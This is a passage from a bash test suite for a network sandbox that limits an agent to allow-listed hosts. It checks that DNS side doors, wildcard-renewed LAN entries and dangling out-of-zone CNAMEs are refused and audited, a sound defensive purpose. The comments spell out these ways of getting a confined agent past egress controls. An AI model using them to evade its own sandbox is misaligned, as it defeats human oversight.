		fail "a socket option did not reach the internet by the tap: $(cat "$T/out" "$T/err")"
	# Refused at the tap (BPF: the datagram is sent, then dropped) or in
	# the output hook (rootless: sendmsg() says EPERM).
	local via got
	for via in bind unicast pktinfo; do
		got=$(result "dns:side-$via.wild.lan.test:0")
		[[ $got == timeout || $got == EPERM ]] || fail "$via: got '$got' (stdout: $(cat "$T/out"))"
		! resolver_saw "side-$via.wild.lan.test" ||
			fail "$via: the host's resolver got the query: $(grep side- "$T/dns.log")"
	done
	! resolver_saw side-pasta.wild.lan.test || fail "pasta's DNS address reached the resolver"
	grep -q '"daddr": "169.254.1.1", "dport": 53, .*"reason": "gateway"' "$T/audit.jsonl" ||
		fail "no denial of the side door recorded: $(cat "$T/audit.jsonl")"
	grep -q '"daddr": "240.0.0.53", "dport": 53, .*"reason": "gateway"' "$T/audit.jsonl" ||
		fail "no denial of pasta's DNS address recorded: $(cat "$T/audit.jsonl")"
	! grep -qE 'allow-ip = (169.254.1.1|240.0.0.53)' "$T/err" ||
		fail "the side door is suggested: $(cat "$T/err")"
	expect_no_leftovers
}

# A wildcard's answer never keeps open what only an exact name opened. The
# attack: moving.lan.test (an exact name, TTL 1 s: its entry lasts 5 s)
# gives the LAN address 10.23.0.82 and moves away; the agent goes on
# asking names under *.wild.lan.test (its own to pick), which answer
# 10.23.0.82 too, and each answer renewed the exact name's entry, strength
# and all: the LAN address stayed open as long as the agent kept asking.
# The wildcard's answers have an entry of their own now, which never opens
# the LAN: once the exact one expired, the address is refused. The
# controls: the exact name opened it, and the wildcard kept answering it.
test_a_wildcard_answer_never_keeps_an_exact_names_lan_address() {
	netsim_up
	mkdir "$T/agent" && chown 4242 "$T/agent"
	resolver_move 10.23.0.82
	jail_cmd --allow-host moving.lan.test --allow-host '*.wild.lan.test' -- sh -c "
		$DIG moving.lan.test; \"$T/probe\" tcp:10.23.0.82:80
		touch \"$T/agent/asked\"
		for i in \$(seq 1 100); do [ -e \"$T/agent/moved\" ] && break; sleep 0.05; done
		for i in \$(seq 1 8); do $DIG x\$i.wild.lan.test; sleep 1; done
		\"$T/probe\" tcp:10.23.0.82:80" >"$T/out" 2>"$T/err" &
	local job=$! i
	for i in $(seq 1 100); do [ -e "$T/agent/asked" ] && break; sleep 0.05; done
	[ -e "$T/agent/asked" ] || fail "the jail did not get as far as the move: $(cat "$T/out" "$T/err")"
	resolver_move 10.23.0.84
	touch "$T/agent/moved"
	wait "$job" || fail "the jail failed: $(cat "$T/err")"
	[ "$(grep -cx 10.23.0.82 "$T/out")" -eq 9 ] ||
		fail "the names did not all answer 10.23.0.82: $(cat "$T/out" "$T/err")"
	[ "$(grep '^tcp:10.23.0.82:80 ' "$T/out" | sed 's/ EHOSTUNREACH / EPERM /' |
		awk '{ printf "%s;", $2 }')" = "ok;EPERM;" ] ||
		fail "want ok by the exact name, then EPERM: $(cat "$T/out" "$T/err")"
	[ "$(hit_count wild-web 1)" -eq 1 ] || fail "10.23.0.82 was reached again: $(cat "$T/hits")"
	expect_no_leftovers
}

# A CNAME out of the name's zone. The attack: an exact name is a CNAME into
# somebody else's zone (a lapsed vendor name, a dangling CNAME anyone may
# claim), and that zone answers with a LAN address: it had the exact
# name's strength, and the audit named only the exact name. Now what a
# CNAME out of the asked name's zone leads to opens the internet only, as
# a wildcard's answer does, and the dns record carries the chain. The
# control: a CNAME within the zone (alias.lan.test to forge.lan.test)
# opens the same address.
test_a_cname_out_of_the_names_zone_never_opens_the_lan() {
	netsim_up
	jail --allow-host lapsed.lan.test --allow-host alias.lan.test -- sh -c "
		$DIG lapsed.lan.test; \"$T/probe\" tcp:10.23.0.80:22
		$DIG alias.lan.test; \"$T/probe\" tcp:10.23.0.80:80"
	expect_rc 0
	[ "$(grep -cx 10.23.0.80 "$T/out")" -eq 2 ] || fail "the names did not answer: $(cat "$T/out" "$T/err")"
	expect_denied tcp:10.23.0.80:22
	expect_result tcp:10.23.0.80:80 ok
	expect_no_hit forge-ssh
	grep -q '"dns": "lapsed.lan.test", "cname": \["forge.vendor.test"\], "addrs": \[\], "refused": \["10.23.0.80"\]' \
		"$T/audit.jsonl" || fail "no record of the chain: $(grep '"dns"' "$T/audit.jsonl")"
	grep -q '"dns": "alias.lan.test", "cname": \["forge.lan.test"\], "addrs": \["10.23.0.80"\]' \
		"$T/audit.jsonl" || fail "the control's record: $(grep '"dns"' "$T/audit.jsonl")"
	expect_no_leftovers
}

# The other side of the wildcard test: what a wildcard may open stays open
# while its own entry lives, after the exact name's entry for the same
# address expired. With internet = off the rule is what lets the agent
# reach an internet address; expiring the exact entry must keep the rule
# for the wildcard's (a mutation that always deletes it turns this red).
# The control: an internet address no answer gave is refused.
test_an_exact_entry_expiring_keeps_what_the_wildcard_opens() {
	netsim_up
	echo "198.51.100.7 api.example.test" | resolver_hosts
	jail --internet off --allow-host api.example.test --allow-host '*.wild.example.test' -- sh -c "
		$DIG api.example.test
		for i in \$(seq 1 8); do $DIG x\$i.wild.example.test; sleep 1; done
		\"$T/probe\" tcp:198.51.100.7:80 tcp:198.51.100.9:80"
	expect_rc 0
	[ "$(grep -cx 198.51.100.7 "$T/out")" -eq 9 ] || fail "the names did not answer: $(cat "$T/out" "$T/err")"
	expect_result tcp:198.51.100.7:80 ok
	expect_denied tcp:198.51.100.9:80
	expect_no_leftovers
}
